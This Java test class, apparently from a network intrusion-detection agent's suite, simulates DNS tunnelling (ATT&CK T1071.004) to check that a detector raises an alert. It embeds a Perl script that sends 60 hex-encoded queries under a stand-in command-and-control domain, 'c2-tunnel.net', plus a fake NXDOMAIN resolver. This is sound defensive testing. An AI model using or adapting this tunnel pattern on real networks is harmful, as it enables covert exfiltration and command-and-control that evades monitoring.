package io.netsensor.agent.atomic;

import io.netsensor.events.Severity;
import java.io.IOException;
import java.time.Duration;

/**
 * A DNS tunnel as iodine and dnscat2 make one: one perl process sends 60 queries, one every ~0.5 s, over
 * one UDP socket to the resolver 8.8.8.8, each name new and carrying data: two 32-character hex labels
 * (64 bytes in front of the zone) under the one registered domain c2-tunnel.net, asking for TXT, CNAME,
 * MX and NULL in turn (the types that carry data back; NULL is iodine's). The "resolver" in the internet
 * namespace answers every query NXDOMAIN (a perl responder; the queries are the signal).
 *
 * <p>Against the dns_tunnel thresholds: 60 distinct names (30 needed), all encoded, all tunnel types, 15
 * NULL queries (5 needed), mean 65 name bytes (30 needed): four signals, Critical; at least High (three)
 * is required. 30 s of traffic, well inside the 10-minute window.
 */
final class DnsTunnelTest extends AtomicTest {
    static final String RESOLVER = "8.8.8.8";
    static final int PORT = 53;
    static final String ZONE = "c2-tunnel.net";
    static final int QUERIES = 60;
    private static final String RESPONDER = "use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => '" + RESOLVER
            + "', LocalPort => " + PORT + ", Proto => 'udp') or die \"bind: $!\";"
            + " while (defined $s->recv(my $q, 512)) { next if length $q < 12; substr($q, 2, 2) = pack('n', 0x8183); $s->send($q) }";
    private static final String SCRIPT = "use IO::Socket::INET; use Digest::MD5 qw(md5_hex);"
            + " my $s = IO::Socket::INET->new(PeerAddr => '" + RESOLVER + "', PeerPort => " + PORT + ", Proto => 'udp') or die \"socket: $!\";"
            + " my @types = (16, 5, 15, 10);" // TXT, CNAME, MX, NULL
            + " for my $i (1 .. " + QUERIES + ") {"
            + " my @labels = (md5_hex(\"up $i $$\"), md5_hex(\"seq $i\"), split(/\\./, '" + ZONE + "'));"
            + " my $q = pack('n6', $i, 0x0100, 1, 0, 0, 0) . join('', map { chr(length $_) . $_ } @labels) . \"\\0\" . pack('n2', $types[$i % 4], 1);"
            + " $s->send($q) or die \"send: $!\"; my $rin = ''; vec($rin, fileno($s), 1) = 1;"
            + " $s->recv(my $r, 512) if select(my $rout = $rin, undef, undef, 1); select(undef, undef, undef, 0.5) }";

    DnsTunnelTest() {
        super("dns-tunnel", 0, "T1071.004", "DNS tunnel: many unique encoded names under one domain, TXT/CNAME/MX/NULL, one process",
                QUERIES + " queries from one process to " + RESOLVER + " for new 64-byte hex names under " + ZONE
                        + " (TXT, CNAME, MX, NULL in turn), one every ~0.5 s",
                "dns_tunnel", Severity.HIGH, "perl");
    }

    @Override
    public void prepare(AtomicNet net) throws IOException, InterruptedException {
        net.inInternet("dns-resolver", "perl", "-e", RESPONDER);
        net.awaitBoundUdp(net.internetNs, RESOLVER, PORT);
    }

    @Override
    public Process start(AtomicNet net) throws IOException {
        return net.inVictim(name, "perl", "-e", SCRIPT);
    }

    @Override
    public String command() {
        return "perl -e \"" + SCRIPT + "\" (resolver: a perl NXDOMAIN responder on " + RESOLVER + ":" + PORT + "/udp)";
    }

    @Override
    public Duration trafficTime() {
        return Duration.ofSeconds(QUERIES / 2 + 10);
    }

    @Override
    public boolean observes(Observed.Conn c) {
        return RESOLVER.equals(c.destinationIp()) && c.destinationPort() == PORT && "udp".equals(c.transport());
    }

    @Override
    public boolean fits(Observed.AlertSeen a) {
        return a.message() != null && a.message().contains(ZONE);
    }
}
